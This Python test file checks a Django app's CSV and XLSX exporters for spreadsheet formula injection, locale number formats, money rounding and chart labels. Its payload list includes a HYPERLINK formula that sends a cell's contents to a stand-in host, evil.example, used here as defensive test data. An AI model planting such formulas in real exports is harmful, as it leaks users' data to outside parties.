"""The one rule that makes a cell safe, through both writers (no database needed)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.utils.translation import gettext_lazy, override
from openpyxl import load_workbook

from accounts.templatetags.kam_ui import money, pct
from reports.exports.pdf import pareto_drawing
from reports.exports.tables import Export, Ratio, Sheet
from reports.exports.writers import cell_value, export_csv, export_xlsx

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=1+2",
    "+7 495 000-00-00",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_text_that_would_run_as_a_formula_is_flagged(text):
    assert cell_value(text) == (text, True)


@pytest.mark.parametrize(
    "value",
    [Decimal("-40.00"), -3, -0.25, 0, dt.date(2025, 1, 2), dt.datetime(2025, 1, 2, 3, 4), True],
)
def test_numbers_dates_and_booleans_keep_their_type(value):
    assert cell_value(value) == (value, False)


def test_lazy_translations_and_other_objects_become_plain_text():
    with override("ru"):
        value, risky = cell_value(gettext_lazy("Identified"))
    assert type(value) is str and value == "Выявлен" and not risky
    assert cell_value(None) == (None, False)
    assert cell_value("a\x00b\x1fc") == ("abc", False)  # XLSX cannot hold control characters


def _export() -> Export:
    rows = [
        [payload, Decimal("-40.00"), -3, dt.date(2025, 1, 2), gettext_lazy("Identified"), None]
        for payload in PAYLOADS
    ] + [["plain", Decimal("12.50"), 7, dt.datetime(2025, 1, 2, 3, 4), "-", ""]]
    headers = ["Name", "Amount", "Count", "Date", gettext_lazy("Stage"), "Empty"]
    sheet = Sheet("Rows", headers, lambda: iter(rows))
    return Export("test", [sheet])


def test_csv_prefixes_risky_text_with_a_quote_and_leaves_numbers_alone():
    text = export_csv(_export()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["Name", "Amount", "Count", "Date", "Stage", "Empty"]
    for row, payload in zip(rows[1:], PAYLOADS, strict=False):
        assert row == ["'" + payload, "-40.00", "-3", "2025-01-02", "Identified", ""]
    assert rows[-1] == ["plain", "12.50", "7", "2025-01-02 03:04:00", "'-", ""]


def test_xlsx_writes_risky_text_as_typed_text_and_numbers_as_numbers():
    book = load_workbook(io.BytesIO(export_xlsx(_export())))
    ws = book["Rows"]
    assert [c.value for c in ws[1]] == ["Name", "Amount", "Count", "Date", "Stage", "Empty"]
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    for row, payload in zip(ws.iter_rows(min_row=2), PAYLOADS, strict=False):
        name, amount, count, date, stage, empty = row
        # XML reads a stored CR back as LF; either way the cell is text.
        assert name.value == payload.replace("\r", "\n")
        assert name.data_type == "s" and name.quotePrefix
        assert amount.value == -40 and amount.data_type == "n"
        assert amount.number_format == "#,##0.00"
        assert count.value == -3 and count.data_type == "n" and not count.quotePrefix
        assert date.value == dt.datetime(2025, 1, 2) and date.number_format == "yyyy-mm-dd"
        assert stage.value == "Identified" and not stage.quotePrefix
        assert empty.value is None
    last = list(ws.iter_rows(min_row=len(PAYLOADS) + 2))[0]
    assert last[0].value == "plain" and not last[0].quotePrefix
    assert last[3].value == dt.datetime(2025, 1, 2, 3, 4)
    assert last[4].value == "-" and last[4].quotePrefix


def test_sheet_titles_follow_excels_rule():
    export = Export("t", [Sheet("Risk: A/B [x]? and a very long tail", ["a"], lambda: iter([]))])
    book = load_workbook(io.BytesIO(export_xlsx(export)))
    assert book.sheetnames == ["Risk AB x and a very long tail"]


# --- numbers in the language's format -------------------------------------------------
def _figures() -> Export:
    headers = ["Account", "Revenue", "Share, %", "Growth, %", "Rank", "HHI"]
    rows = [
        ["Альфа", Decimal("48897775.60"), Ratio(0.8), Ratio(-0.12345), 1, 0.2337],
        ['Beta; Ltd, "B"', Decimal("-40.005"), Ratio(0.123456, 2), None, 2, None],
    ]
    return Export("figures", [Sheet("Figures", headers, lambda: iter(rows))])


@pytest.mark.parametrize(
    ("language", "delimiter", "expected"),
    [
        (
            "en",
            ",",
            [
                ["Альфа", "48897775.60", "80.0", "-12.3", "1", "0.2337"],
                ['Beta; Ltd, "B"', "-40.01", "12.35", "", "2", ""],
            ],
        ),
        (
            "ru",
            ";",
            [
                ["Альфа", "48897775,60", "80,0", "-12,3", "1", "0,2337"],
                ['Beta; Ltd, "B"', "-40,01", "12,35", "", "2", ""],
            ],
        ),
    ],
)
def test_csv_follows_the_languages_number_format(language, delimiter, expected):
    """Russian Excel opens `;` with decimal commas; money has 2 decimals rounded half up,
    a percentage the page's figure."""
    with override(language):
        content = export_csv(_figures())
    assert content.startswith(b"\xef\xbb\xbf")
    text = content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    assert rows[0] == ["Account", "Revenue", "Share, %", "Growth, %", "Rank", "HHI"]
    assert rows[1:] == expected
    # The percentage is the page's figure without its "%".
    with override(language):
        assert pct(0.8) == expected[0][2] + " %"


@pytest.mark.parametrize(
    ("language", "shown"), [("en", "48,897,776\xa0₽"), ("ru", "48\xa0897\xa0776\xa0₽")]
)
def test_money_rounds_half_up_like_the_web(language, shown):
    """The PDF truncated 48 897 775.6 to 48 897 775; it calls the web's filter now."""
    with override(language):
        assert money(Decimal("48897775.6")) == shown
        assert money(Decimal("48897775.5")) == shown
        assert money(Decimal("48897775.49")) != shown


def test_xlsx_percentages_are_numbers_with_a_percent_format():
    ws = load_workbook(io.BytesIO(export_xlsx(_figures())))["Figures"]
    revenue, share, growth, rank, hhi = ws["B2"], ws["C2"], ws["D2"], ws["E2"], ws["F2"]
    assert revenue.value == 48897775.6 and revenue.number_format == "#,##0.00"
    assert share.value == 0.8 and share.data_type == "n" and share.number_format == "0.0%"
    assert growth.value == -0.12345 and growth.number_format == "0.0%"
    assert ws["C3"].number_format == "0.00%"
    assert rank.number_format == "0" and hhi.number_format == "0.0000"
    assert ws.auto_filter.ref == "A1:F3" and ws.freeze_panes == "A2"
    widths = {c: ws.column_dimensions[c].width for c in "ABCDEF"}
    assert min(widths.values()) >= 8 and widths["D"] >= len("Growth, %") + 3


def test_an_empty_sheet_still_filters_its_header():
    export = Export("t", [Sheet("Empty", ["a", "b"], lambda: iter([]))])
    ws = load_workbook(io.BytesIO(export_xlsx(export)))["Empty"]
    assert ws.auto_filter.ref == "A1:B1"


def test_pareto_axis_labels_do_not_crowd_the_tier_lines():
    """95 and 100 were both axis labels, 5 % apart: they overlapped. The axis is labelled
    every 20 %; the 80 % and 95 % lines are labelled right of the plot."""
    from reportlab.graphics.charts.lineplots import LinePlot
    from reportlab.graphics.shapes import String

    from reports.portfolio.dashboard import Dashboard

    dash = Dashboard(period=None, previous=None, metric=None)  # type: ignore[arg-type]
    dash.pareto = [[0, 0.0], [1, 0.6], [2, 0.9], [3, 1.0]]
    dash.bands = [{"tier": "A", "first": 1, "last": 2}, {"tier": "B", "first": 3, "last": 3}]
    drawing = pareto_drawing(dash, font="Helvetica", width=500, height=200)
    plot = next(c for c in drawing.contents if isinstance(c, LinePlot))
    assert plot.yValueAxis.valueSteps == [0, 20, 40, 60, 80, 100]
    labels = [c for c in drawing.contents if isinstance(c, String) and c.text[:2] in ("80", "95")]
    assert [c.text for c in labels] == ["80 %", "95 %"]
    assert all(c.x > plot.x + plot.width for c in labels)
